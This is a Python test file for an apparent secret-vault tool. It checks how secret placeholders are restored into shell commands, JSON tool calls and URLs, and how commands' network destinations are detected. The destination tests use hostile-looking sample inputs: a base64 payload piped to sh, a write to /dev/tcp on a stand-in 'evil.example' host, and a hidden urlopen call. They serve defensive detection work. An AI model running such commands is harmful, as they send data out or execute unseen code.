"""Restoring into shell commands keeps their token structure (property-tested), URL parts are percent-encoded,
and destinations are read conservatively."""

from __future__ import annotations

import json
import shlex

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from coatcheck.wire.restore.destinations import destinations
from coatcheck.wire.restore.dialects import POSIX, restore_command
from coatcheck.wire.restore.dialects.posix import contexts, quote_for
from coatcheck.wire.restore.urls import url_component, url_encode
from coatcheck.wire.restore.toolcalls import sinks

PH = "SECRET_abcdefghi2"
TEMPLATES = [
    "PGPASSWORD={ph} psql -h localhost",
    "PGPASSWORD='{ph}' psql -h localhost -c 'select 1'",
    'export TOKEN="{ph}" && ./deploy.sh --verbose',
    "echo {ph}x | sha256sum",
    "printf '%s\\n' \"prefix-{ph}-suffix\" 'and {ph}'",
    "docker run -e API_KEY={ph} --rm image:1.2 cmd",
    "git commit -m 'rotate {ph}'",
]
values = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=30)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(template=st.sampled_from(TEMPLATES), value=values)
def test_restored_commands_keep_their_shlex_tokens(template, value):
    cmd = template.format(ph=PH)
    r = restore_command(cmd, lambda ph: value if ph == PH else None, lambda ph, at: None, POSIX)
    if r.kept:  # kept placeholders leave the command exactly as it was
        assert r.text == cmd
        return
    assert shlex.split(r.text) == [t.replace(PH, value) for t in shlex.split(cmd)]


@settings(max_examples=200, deadline=None)
@given(value=values)
def test_restored_tool_input_stays_valid_json(value):
    from coatcheck.wire.restore.toolcalls import ToolRestorer
    from coatcheck.policy import RestoreSettings
    from coatcheck.vault import Vault

    v = Vault(b"k" * 32)
    ph = v.placeholder("secret", value)
    source = json.dumps({"file_path": ".env", "content": f"KEY={ph}\n"})
    out, kept = ToolRestorer(v, RestoreSettings()).restore_arguments("Write", source)
    assert json.loads(out) == {"file_path": ".env", "content": f"KEY={value}\n"} and not kept


def test_contexts_and_quoting():
    cmd = "a 'b' \"c $(d 'e') f\" $'g' # h\ncat <<'EOF'\nraw\nEOF\ncat <<X\nexp\nX\n"
    ctx = contexts(cmd)
    assert ctx[cmd.index("b")] == "single" and ctx[cmd.index("c ")] == "double" and ctx[cmd.index("e'")] == "single"
    assert ctx[cmd.index("g")] == "ansi" and ctx[cmd.index("h")] == "comment"
    assert ctx[cmd.index("raw")] == "heredoc-raw" and ctx[cmd.index("exp")] == "heredoc-exp"
    assert quote_for("a b", "plain") == "'a b'" and quote_for("it's", "single") == "it'\\''s"
    assert quote_for('$x"`', "double") == '\\$x\\"\\`' and quote_for("x\ny", "heredoc-raw") is None
    assert quote_for("x", "backtick") is None


def test_unbalanced_quotes_keep_every_placeholder():
    r = restore_command(f"echo '{PH}", lambda ph: "v", lambda ph, at: None, POSIX)
    assert r.text == f"echo '{PH}" and r.kept


def test_url_parts_are_percent_encoded():
    cmd = f"curl https://user:{PH}@db.example/x?k={PH}"
    assert url_component(cmd, cmd.index(PH)) == "userinfo"
    assert url_component(cmd, cmd.rindex(PH)) == "query"
    assert url_encode("p@ss:w/rd&x", "userinfo") == "p%40ss%3Aw%2Frd&x"
    assert url_encode("a&b=c d", "query") == "a%26b%3Dc%20d"
    assert url_encode("already%20encoded", "query") == "already%20encoded"
    r = restore_command(cmd, lambda ph: "p@ss w", lambda ph, at: None, POSIX)
    assert r.text == "curl https://user:p%40ss%20w@db.example/x?k=p@ss%20w" and not r.kept


def test_destinations():
    rules = sinks().shell
    d = destinations("curl -s https://api.github.com/user -H 'x: y'", rules)
    assert d.network and d.hosts == {"api.github.com"} and not d.hidden
    assert destinations("ls -la && git status", rules).network is False
    assert destinations("git push origin main", rules).hidden  # the remote's host is not in the command
    assert destinations("psql -c 'select 1'", rules) .hosts == set()
    assert not destinations("psql -c 'select 1'", rules).hidden  # no host: the local server
    assert destinations("psql -h db.internal -U app", rules).hosts == {"db.internal"}
    assert destinations("ssh deploy@prod.example.com uptime", rules).hosts == {"prod.example.com"}
    assert destinations("python3 -c 'import urllib.request as u; u.urlopen(x)'", rules).hidden
    assert destinations("curl $URL", rules).hidden
    assert destinations("echo aGk= | base64 -d | sh", rules).hidden
    assert destinations("cat > /dev/tcp/evil.example/80", rules).hosts == {"evil.example"}
